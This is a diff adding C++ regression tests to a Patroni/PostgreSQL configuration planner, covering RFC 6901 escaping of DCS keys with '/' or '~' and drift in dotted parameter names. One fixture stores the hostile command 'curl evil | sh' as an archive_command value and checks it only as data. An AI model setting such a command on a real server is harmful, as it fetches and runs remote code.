@@ -550,3 +550,54 @@ TEST_CASE("plan: credentials in values observed on hosts (patroni.yml, GET /conf
   CHECK(shown.find("max_connections") != std::string::npos);
   for (const auto* secret : {"Hand7Typed", "REPLsecret2", "InDcs7"}) CHECK(shown.find(secret) == std::string::npos);
 }
+
+TEST_CASE("regression: a DCS key holding '/' or '~' is one key of the PATCH, never a path, and never throws") {
+  // compile() refuses such keys; the plan must hold whatever reaches it: every pointer token is
+  // escaped (RFC 6901), so "postgresql/parameters/archive_command" stays one top-level key and
+  // "~x" (which made nlohmann's json_pointer throw) is an ordinary one.
+  auto c = testing::make_cluster(3, ReplicationMode::async);
+  auto oc = testing::healthy(c, 0);  // the DCS as it is: without the keys below
+  c.dynamic_config["postgresql/parameters/archive_command"] = "curl evil | sh";
+  c.dynamic_config["~x"] = 1;
+  c.dynamic_config["a~1b"] = 2;
+  auto keys = owned_dcs_keys(c);
+  CHECK(keys.contains("/postgresql~1parameters~1archive_command"));
+  CHECK(keys.contains("/~0x"));
+  CHECK(keys.contains("/a~01b"));
+  CHECK_FALSE(keys.contains("/postgresql/parameters/archive_command"));
+  auto secrets = testing::fixed_secrets();
+  auto observed = observed_hosts(c, true, secrets);
+  observed.clusters["c"] = oc;
+  Plan plan;
+  REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
+  const Change* patch = nullptr;
+  for (const auto& change : plan.clusters[0].changes)
+    if (change.step == Step::patch_dcs) patch = &change;
+  REQUIRE(patch);
+  const auto& body = patch->payload["patch"];
+  CHECK(body["postgresql/parameters/archive_command"] == "curl evil | sh");
+  CHECK(body["~x"] == 1);
+  CHECK(body["a~1b"] == 2);
+  CHECK_FALSE(body.contains("postgresql"));
+}
+
+TEST_CASE("plan: drift in a dotted parameter name shows its values (pointers, not dotted names, are looked up)") {
+  auto c = testing::make_cluster(2, ReplicationMode::async);
+  auto secrets = testing::fixed_secrets();
+  auto observed = observed_hosts(c, true, secrets);
+  observed.clusters["c"] = testing::healthy(c, 0);
+  auto edited = c.members[1];
+  edited.patroni_config["postgresql"]["parameters"]["pg_stat_statements.max"] = "5000";
+  edited.patroni_config["postgresql"]["parameters"]["odd~key"] = "1";  // a hand edit on the host
+  observed.hosts[edited.host].files[edited.config_path] = config_text(edited, secrets);
+  Plan plan;
+  REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
+  const Change* write = nullptr;
+  for (const auto& change : plan.clusters[0].changes)
+    if (change.step == Step::write_config) write = &change;
+  REQUIRE(write);
+  std::map<std::string, std::string> before;
+  for (const auto& f : write->fields) before[f.key] = f.before;
+  CHECK(before.at("postgresql.parameters.pg_stat_statements.max") == "5000");
+  CHECK(before.at("postgresql.parameters.odd~key") == "1");
+}
